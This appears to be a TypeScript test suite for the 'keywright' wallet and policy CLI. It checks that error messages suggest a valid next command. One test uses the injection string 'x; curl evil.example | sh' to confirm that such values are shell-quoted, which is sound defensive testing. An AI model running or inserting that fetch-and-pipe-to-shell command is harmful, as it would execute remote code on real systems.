// The next step that the program prints after a mistake: it names the field or the resource, the expected
// value, and an existing command.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { findCommand } from '../../src/cli/commands.ts';
import { nextStep, nextSteps } from '../../src/cli/service/next_steps.ts';
import { RequestFailed } from '../../src/client/errors.ts';
import { errors, ServiceError } from '../../src/core/errors/errors.ts';
import { serviceOfThisFile } from '../e2e/service.ts';
import { folderOfTests, runIn } from './terminal.ts';

const service = await serviceOfThisFile();
const folder = folderOfTests();
const file = (name: string) => join(folder, name);
const reach = [
  '--credentials',
  join(service.dataDirectory, 'root-credentials.json'),
  '--url',
  service.baseUrl,
];
const run = (words: readonly string[], input = '') =>
  runIn(folder, [...words, ...reach], { input });
const gone = '01900000-0000-7000-8000-000000000000';

writeFileSync(
  file('false.json'),
  '{"policyName":"x","effect":"EFFECT_ALLOW","condition":"wallet.di == 1","notes":""}',
);

test('an empty list names the command that adds its first row', async () => {
  const { code, err } = await run(['address', 'list']);
  assert.equal(code, 0);
  assert.equal(err, 'No addresses yet: keywright address add LABEL ADDRESS\n');
});

test('the root user creates a wallet and a policy', async () => {
  for (const words of [
    ['wallet', 'create', 'shop'],
    ['policy', 'create', 'two approve', '--consensus', 'approvers.count() >= 2'],
  ]) {
    const { code, err } = await run(words);
    assert.equal(code, 0, err);
  }
});

/** A mistyped command, its exit code and the next step. */
const slips: readonly (readonly [words: readonly string[], exit: number, next: RegExp])[] = [
  [
    ['user', 'create', 'x'.repeat(300), '--key-file', file('key.json')],
    6,
    /^Change parameters\.users\.0\.userName: expected .*300.*\. See keywright user create --help$/,
  ],
  [
    ['api', 'create_user_tag', '--param', 'userTagName='],
    6,
    /^Change parameters\.userTagName: .+\. See keywright api create_user_tag --help$/,
  ],
  [
    ['policy', 'create', 'two approve', '--consensus', 'true'],
    6,
    /^Give another name, or rename or delete the resource that has this name\.$/,
  ],
  [
    ['api', 'create_policy', '--params', file('false.json')],
    6,
    /^keywright policy check FILE marks the place in an expression\.$/,
  ],
  [['api', 'get_wallet', '--wallet-id', gone], 5, /^keywright wallet list prints the ids\.$/],
  [['api', 'get_policy', '--policy-id', gone], 5, /^keywright policy list prints the ids\.$/],
  [
    ['activity', 'show', gone],
    5,
    /^keywright activity list prints the ids of the newest activities\.$/,
  ],
  [
    ['api', 'approve_activity', '--fingerprint', `sha256:${'0'.repeat(64)}`],
    2,
    /^keywright activity approve ACTIVITY$/,
  ],
  [
    ['api', 'list_users', '--organization', gone],
    5,
    /^keywright status shows the organization of the profile\.$/,
  ],
  [
    ['api', 'delete_wallets', '--param', `walletIds.0=${gone}`],
    5,
    /^keywright wallet list prints the ids\.$/,
  ],
  [
    [
      'api',
      'update_root_quorum',
      '--threshold',
      '5',
      '--param',
      `userIds.0=${service.credentials.userId}`,
    ],
    6,
    /^Change parameters\.threshold: .* at most the number of its users, 1; got 5\. See keywright api update_root_quorum --help$/,
  ],
];

const nextOf = (err: string): string => /^next: (.*)$/m.exec(err)?.[1] ?? '';

for (const [words, exit, next] of slips) {
  test(`keywright ${words.join(' ').slice(0, 60)} names the next step`, async () => {
    const { code, err } = await run(words);
    assert.equal(code, exit, err);
    assert.match(nextOf(err), next);
    await typed(nextOf(err));
  });
}

test('the deletion of a wallet without an export names both next steps', async () => {
  const walletId = (await run(['wallet', 'list', '--quiet'])).out.trim();
  const words = ['api', 'delete_wallets', '--param', `walletIds.0=${walletId}`];
  const { code, err } = await run(words);
  assert.equal(code, 6, err);
  assert.match(
    nextOf(err),
    /^Export it first, or allow the deletion without an export: keywright api delete_wallets --help$/,
  );
});

/** Runs the command of a next step with `--help`, which changes nothing. */
async function typed(next: string): Promise<void> {
  const [, line] = /\bkeywright ([a-z_-]+(?: [a-z_-]+)*)/.exec(next) ?? [];
  if (line === undefined) return;
  const found = await findCommand(line.split(' '));
  assert(found !== undefined, `keywright ${line} is a command`);
  const { code, err } = await runIn(folder, [...found.command.words, '--help']);
  assert.equal(code, 0, err);
}

test('a value in the message of a service is one word of the printed command', () => {
  for (const [value, word] of [
    ['x; curl evil.example | sh', "'x; curl evil.example | sh'"],
    ["'; HELP", "''\\''; HELP'"],
  ] as const) {
    const { message } = new ServiceError('frozen', { what: 'all', since: 'now', freezeId: value });
    const failed = new RequestFailed('FROZEN', message, { status: 403 });
    const step = nextStep(failed, ['wallet', 'list']) ?? '';
    assert.equal(step.slice(step.indexOf('--freeze-id ')), `--freeze-id ${word}`);
  }
});

test('nextStep finds each row of the table by the sentence of its error, and fills in the placeholders', () => {
  for (const [code, step] of Object.entries(nextSteps)) {
    const details = Object.fromEntries(
      [...errors[code as keyof typeof nextSteps].sentence.matchAll(/\{(\w+)\}/g)].map(
        ([, word = '']) => [word, `a-${word}`],
      ),
    );
    const { message } = new ServiceError(code as keyof typeof nextSteps, details);
    const failed = new RequestFailed('REQUEST_INVALID', message, { status: 400 });
    const expected = step
      .replaceAll(/\{(\w+)\}/g, (_, word: string) => `a-${word}`)
      .replace('HELP', 'keywright wallet list --help');
    assert.equal(nextStep(failed, ['wallet', 'list']), expected, code);
  }
});
